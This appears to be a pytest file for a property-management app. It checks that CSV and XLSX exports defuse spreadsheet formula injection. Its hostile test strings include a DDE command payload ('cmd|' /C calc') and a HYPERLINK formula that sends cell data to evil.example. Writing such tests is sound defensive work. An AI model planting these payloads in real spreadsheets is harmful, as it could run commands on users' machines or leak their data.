"""Exports are safe to open in Excel and WPS: no text typed at the desk becomes a
formula, in CSV or in XLSX, while numbers stay numbers."""

from __future__ import annotations

import csv
import re
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from desk_app.domain.work_orders import Location
from desk_app.services.contacts import ContactDraft
from desk_app.services.kit.export import write_table
from desk_app.services.work_orders.views import QuoteLineDraft, WorkOrderDraft

DAY = date(2026, 11, 23)  # the FakeClock's day in Beijing
CALC = "=cmd|' /C calc'!A0"
HOSTILE = [
    CALC,
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+86 138 1234 5678",
    "-801",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝１＋１",
    "＋１",
    "－１",
    "＠SUM(A1)",
]
HARMLESS = ["张伟强", "3栋2单元1501", "13812345678", "a=b", "1+1", "", "'已加引号"]
NUMBERS = [42, -5, Decimal("30.00"), 1.5]
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # what a number of ours looks like in a CSV


def formula_like(text: str) -> bool:
    return text.lstrip()[:1] in set("=+-@＝＋－＠") or text[:1] in {"\t", "\r"}


def csv_rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def xlsx_cells(path):
    return [cell for row in load_workbook(path).active.iter_rows() for cell in row]


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not formula_like(value) or NUMBER.fullmatch(value), value


def assert_no_formula_in_xlsx(cells) -> None:
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str) and formula_like(cell.value):
            assert cell.quotePrefix, cell.value  # stays text when edited in Excel


def test_csv_puts_a_quote_before_formula_like_text(tmp_path):
    path = tmp_path / "x.csv"
    assert write_table(path, "csv", ["文本"], [[v] for v in HOSTILE + HARMLESS + NUMBERS]) == 23

    rows = csv_rows(path)
    values = [row[0] for row in rows[1:]]
    assert values[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert values[len(HOSTILE) : -len(NUMBERS)] == HARMLESS
    assert values[-len(NUMBERS) :] == ["42", "-5", "30.00", "1.5"]
    assert_no_formula_in_csv(rows)
    # Every field is quoted, as OWASP advises, so no separator inside a text splits it.
    lines = path.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == '"文本"' and lines[-1] == '"1.5"'


def test_xlsx_writes_every_text_as_a_string_cell(tmp_path):
    path = tmp_path / "x.xlsx"
    write_table(path, "xlsx", ["文本"], [[v] for v in HOSTILE + HARMLESS + NUMBERS])

    cells = xlsx_cells(path)[1:]
    texts, numbers = cells[: -len(NUMBERS)], cells[-len(NUMBERS) :]
    # The text is kept as typed (blank cells read back as None, XML turns CR into LF) ...
    assert [c.value for c in texts] == [v.replace("\r", "\n") or None for v in HOSTILE + HARMLESS]
    assert all(c.data_type == "s" for c in texts if c.value is not None)
    assert [c.quotePrefix for c in texts[: len(HOSTILE)]] == [True] * len(HOSTILE)
    assert not any(c.quotePrefix for c in texts[len(HOSTILE) :])
    # ... and numbers are numbers a supervisor can sum.
    assert [(c.data_type, c.value) for c in numbers] == [
        ("n", 42),
        ("n", -5),
        ("n", 30),
        ("n", 1.5),
    ]
    assert_no_formula_in_xlsx(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contact_export_of_a_hostile_caller(services, clerk, supervisor, tmp_path, fmt):
    services.contacts.log(
        clerk,
        ContactDraft(
            content='=HYPERLINK("http://evil.example","物业通知")',
            caller_name=CALC,
            place="-801",
            since="@昨天",
        ),
    )
    path = tmp_path / f"contacts.{fmt}"
    assert services.contacts.export(supervisor, DAY, DAY, fmt, path) == 1

    if fmt == "csv":
        header, row = csv_rows(path)
        assert row[header.index("姓名")] == "'" + CALC
        assert_no_formula_in_csv([header, row])
    else:
        cells = xlsx_cells(path)
        assert CALC in [c.value for c in cells]
        assert_no_formula_in_xlsx(cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_work_order_export_of_a_hostile_contact(services, clerk, supervisor, tmp_path, fmt):
    services.work_orders.orders.create(
        clerk,
        WorkOrderDraft(
            description="+1 大堂灯不亮 =1+1",
            category="electrical",
            location=Location.PUBLIC_AREA,
            place="-1层车库",
            contact_name=CALC,
            contact_phone="13812345678",
            paid=True,
            quote_lines=(QuoteLineDraft("灯管", 2, "根", 15),),
        ),
    )
    path = tmp_path / f"orders.{fmt}"
    assert services.work_orders.export(supervisor, DAY, DAY, fmt, path) == 1

    if fmt == "csv":
        header, row = csv_rows(path)
        assert row[header.index("联系人")] == "'" + CALC
        assert row[header.index("金额")] == "30.00"
        assert_no_formula_in_csv([header, row])
    else:
        sheet = load_workbook(path).active
        header = [c.value for c in sheet[1]]
        row = sheet[2]
        assert row[header.index("联系人")].value == CALC
        amount = row[header.index("金额")]
        assert (amount.data_type, amount.value) == ("n", 30)
        assert_no_formula_in_xlsx(xlsx_cells(path))
